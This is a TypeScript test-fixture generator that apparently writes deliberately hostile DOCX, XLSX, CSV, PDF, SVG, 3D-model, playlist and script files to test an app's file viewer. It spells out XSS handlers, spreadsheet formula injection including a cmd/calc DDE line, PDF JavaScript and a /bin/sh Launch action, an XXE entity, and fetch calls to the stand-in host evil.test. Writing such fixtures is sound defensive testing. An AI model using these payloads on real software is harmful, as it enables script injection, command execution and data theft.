// Files of every format that the app shows, made to attack whoever shows them.
import { mkdir, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import Excel from 'exceljs';
import { makeGlb } from '../make-glb.ts';
import { docxParts, makeZip, type ZipPart } from '../make-zip.ts';
import { HIDDEN_TRICKS, HOSTILE_MARKUP, HOSTILE_NAME, HOSTILE_TEXT } from './payloads.ts';

const EVIL = 'http://evil.test';
/** Players follow it to the other host, even where its name says that it is a film. */
const PLAYLIST = `#EXTM3U\n#EXT-X-TARGETDURATION:5\n#EXTINF:5,\n${EVIL}/segment.ts\n#EXT-X-ENDLIST\n`;
const PIXEL =
  'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==';

/** Writes them into a folder. @returns their names by what they are */
export async function writeHostileFiles(dir: string) {
  const names = {
    markdown: 'hostile.md',
    html: 'hostile.html',
    text: 'hostile.txt',
    csv: 'hostile.csv',
    docx: 'hostile.docx',
    xlsx: 'hostile.xlsx',
    pdf: 'hostile.pdf',
    svg: 'hostile.svg',
    entities: 'entities.svg',
    obj: 'hostile.obj',
    mtl: 'hostile.mtl',
    glb: 'hostile.glb',
    playlist: 'playlist.m3u8',
    film: 'playlist.mp4',
    script: 'hostile.js',
    named: `${HOSTILE_NAME}.png`,
    reversed: 'photo\u202Egnp.exe.png',
  } as const;
  const files: Record<keyof typeof names, string | Buffer> = {
    markdown: HOSTILE_TEXT,
    html: `<!doctype html><html><head><title>x</title></head><body>${HOSTILE_MARKUP.join('\n')}</body></html>`,
    text: `${HIDDEN_TRICKS}\n${HOSTILE_MARKUP.join('\n')}`,
    csv: csvText(),
    docx: makeZip(hostileDocx()),
    xlsx: await hostileXlsx(),
    pdf: hostilePdf(),
    svg: hostileSvg(),
    entities: entitySvg(),
    obj: `mtllib hostile.mtl\nmtllib ${EVIL}/other.mtl\nv 0 0 0\nv 1 0 0\nv 0 1 0\nvt 0 0\nvt 1 0\nvt 0 1\nusemtl bad\nf 1/1 2/2 3/3\n`,
    mtl: `newmtl bad\nmap_Kd ${EVIL}/texture.png\nmap_Ks //evil.test/specular.png\n`,
    glb: hostileGlb(),
    playlist: PLAYLIST,
    film: PLAYLIST,
    script: `// ${HIDDEN_TRICKS}\nwindow.__hacked = 'code';\nfetch('${EVIL}/code');\n`,
    named: Buffer.from(PIXEL, 'base64'),
    reversed: Buffer.from(PIXEL, 'base64'),
  };
  await mkdir(dir, { recursive: true });
  for (const key of Object.keys(names) as (keyof typeof names)[])
    await writeFile(join(dir, names[key]), files[key]);
  return names;
}

function csvText(): string {
  const quoted = (cell: string) => `"${cell.replaceAll('"', '""')}"`;
  const formulas = [`=HYPERLINK("${EVIL}/csv","x")`, "=cmd|'/C calc'!A0", '@SUM(1+1)', '+1'];
  return [
    ['markup', 'formula'],
    ...HOSTILE_MARKUP.map((cell, at) => [cell, formulas[at % 4] ?? '']),
  ]
    .map((row) => row.map(quoted).join(','))
    .join('\n');
}

async function hostileXlsx(): Promise<Buffer> {
  const book = new Excel.Workbook();
  const sheet = book.addWorksheet('<img src=x onerror=alert(1)>');
  HOSTILE_MARKUP.forEach((text, at) => {
    sheet.getCell(at + 1, 1).value = text;
    sheet.getCell(at + 1, 2).value = { text: `link ${at}`, hyperlink: `javascript:alert(${at})` };
    sheet.getCell(at + 1, 3).value = { formula: `WEBSERVICE("${EVIL}/${at}")`, result: text };
  });
  sheet.getCell('A1').note = HOSTILE_MARKUP.join('');
  book.addWorksheet('second').getCell('A1').value = {
    richText: [{ text: HOSTILE_MARKUP[2] ?? '' }],
  };
  return Buffer.from(await book.xlsx.writeBuffer());
}

const escaped = (text: string) =>
  text
    .replaceAll('&', '&amp;')
    .replaceAll('<', '&lt;')
    .replaceAll('>', '&gt;')
    .replaceAll('"', '&quot;');

/** Links with scripts, a picture of another host, a field that includes one, a whole web page inside. */
function hostileDocx(): ZipPart[] {
  const relation = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  const spaces =
    'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" ' +
    `xmlns:r="${relation}" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ` +
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
    'xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
  const paragraph = (inside: string) => `<w:p>${inside}</w:p>`;
  const text = (value: string) => `<w:r><w:t>${escaped(value)}</w:t></w:r>`;
  const link = (id: string, value: string) =>
    `<w:hyperlink r:id="${id}">${text(value)}</w:hyperlink>`;
  const picture =
    '<w:r><w:drawing><wp:inline><wp:docPr id="1" name="p" descr="&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"/>' +
    '<a:graphic><a:graphicData><pic:pic><pic:blipFill><a:blip r:link="r4"/></pic:blipFill></pic:pic>' +
    '</a:graphicData></a:graphic></wp:inline></w:drawing></w:r>';
  const field =
    '<w:r><w:fldChar w:fldCharType="begin"/></w:r>' +
    `<w:r><w:instrText>HYPERLINK "javascript:alert(1)"</w:instrText></w:r>` +
    '<w:r><w:fldChar w:fldCharType="separate"/></w:r>' +
    `${text('field link')}<w:r><w:fldChar w:fldCharType="end"/></w:r>`;
  const body = [
    ...HOSTILE_MARKUP.map((value) => paragraph(text(value))),
    paragraph(link('r2', 'script link') + link('r3', 'outside link') + field),
    paragraph(picture),
    '<w:altChunk r:id="r5"/>',
  ].join('');
  const parts = docxParts([]).filter(({ name }) => name !== 'word/document.xml');
  const target = (id: string, type: string, to: string) =>
    `<Relationship Id="${id}" Type="${relation}/${type}" Target="${to}" TargetMode="External"/>`;
  return [
    ...parts,
    {
      name: 'word/document.xml',
      bytes: `<?xml version="1.0"?><w:document ${spaces}><w:body>${body}</w:body></w:document>`,
    },
    {
      name: 'word/_rels/document.xml.rels',
      bytes:
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        target('r2', 'hyperlink', "javascript:window.__hacked='docx'") +
        target('r3', 'hyperlink', `${EVIL}/docx`) +
        target('r4', 'image', `${EVIL}/docx.png`) +
        `<Relationship Id="r5" Type="${relation}/aFChunk" Target="chunk.html"/></Relationships>`,
    },
    { name: 'word/chunk.html', bytes: HOSTILE_MARKUP.join('') },
  ];
}

/** Scripts on opening, on the page and on a field; links that run, launch and leave; a stream elsewhere. */
function hostilePdf(): Buffer {
  const script = (code: string) => `<< /S /JavaScript /JS (${code}) >>`;
  const content = 'BT /F 12 Tf 60 700 Td (Hostile page of the report) Tj ET';
  const link = (y: number, action: string) =>
    `<< /Type /Annot /Subtype /Link /Rect [60 ${y} 300 ${y + 20}] /A ${action} >>`;
  const objects = [
    `<< /Type /Catalog /Pages 2 0 R /OpenAction ${script('app.alert\\(1\\); app.launchURL\\("http://evil.test/pdf"\\);')} ` +
      `/Names << /JavaScript << /Names [(a) ${script('this.submitForm\\("http://evil.test/submit"\\)')}] >> >> ` +
      '/AcroForm << /Fields [8 0 R] /XFA (<template/>) >> >>',
    '<< /Type /Pages /Count 1 /Kids [3 0 R] >>',
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents [4 0 R 9 0 R] /Annots [5 0 R 6 0 R 7 0 R 8 0 R] ' +
      `/AA << /O ${script('app.alert\\(2\\)')} >> /Resources << /Font << /F 10 0 R >> >> >>`,
    `<< /Length ${content.length} >>\nstream\n${content}\nendstream`,
    link(600, `<< /S /URI /URI (javascript:window.__hacked='pdf') >>`),
    link(560, `<< /S /URI /URI (${EVIL}/uri) >>`),
    link(520, '<< /S /Launch /F (/bin/sh) >>'),
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (field) /Rect [60 480 300 500] /AA << /F ${script('app.alert\\(3\\)')} >> >>`,
    `<< /Length 0 /F << /FS /URL /F (${EVIL}/stream) >> >>\nstream\n\nendstream`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>',
  ];
  const body = objects.map((object, at) => `${at + 1} 0 obj\n${object}\nendobj\n`);
  const head = '%PDF-1.7\n';
  let offset = head.length;
  const rows = body.map((part) => {
    const row = `${String(offset).padStart(10, '0')} 00000 n \n`;
    offset += part.length;
    return row;
  });
  const size = objects.length + 1;
  return Buffer.from(
    `${head}${body.join('')}xref\n0 ${size}\n0000000000 65535 f \n${rows.join('')}` +
      `trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${offset}\n%%EOF\n`,
    'latin1',
  );
}

function hostileSvg(): string {
  return (
    `<?xml version="1.0"?><?xml-stylesheet href="${EVIL}/svg.css"?>` +
    '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="80" ' +
    `onload="window.__hacked='svg-load'"><script>parent.__hacked='svg'; fetch('${EVIL}/svg')</script>` +
    `<script xlink:href="${EVIL}/svg.js"/><style>@import "${EVIL}/svg-import.css";</style>` +
    `<image href="${EVIL}/svg.png" width="10" height="10"/><use href="${EVIL}/svg-use.svg#a"/>` +
    `<foreignObject width="50" height="50"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${EVIL}/svg-frame"/></foreignObject>` +
    `<a xlink:href="javascript:alert(1)"><rect width="120" height="80" fill="#88a"><set attributeName="x" onbegin="alert(1)"/></rect></a></svg>`
  );
}

function entitySvg(): string {
  return (
    `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a SYSTEM "${EVIL}/entity"><!ENTITY b "&a;">]>` +
    '<svg xmlns="http://www.w3.org/2000/svg" width="50" height="50"><text y="20">&b;</text></svg>'
  );
}

/** Its buffer and its texture are on another host. */
function hostileGlb(): Buffer {
  const document = {
    asset: { version: '2.0' },
    buffers: [{ uri: `${EVIL}/buffer.bin`, byteLength: 36 }],
    bufferViews: [{ buffer: 0, byteLength: 36 }],
    accessors: [
      {
        bufferView: 0,
        componentType: 5126,
        count: 3,
        type: 'VEC3',
        min: [0, 0, 0],
        max: [1, 1, 1],
      },
    ],
    images: [{ uri: `${EVIL}/image.png` }],
    textures: [{ source: 0 }],
    materials: [{ pbrMetallicRoughness: { baseColorTexture: { index: 0 } } }],
    meshes: [{ primitives: [{ attributes: { POSITION: 0 }, material: 0 }] }],
    nodes: [{ mesh: 0 }],
    scenes: [{ nodes: [0] }],
    scene: 0,
  };
  return makeGlb(document);
}
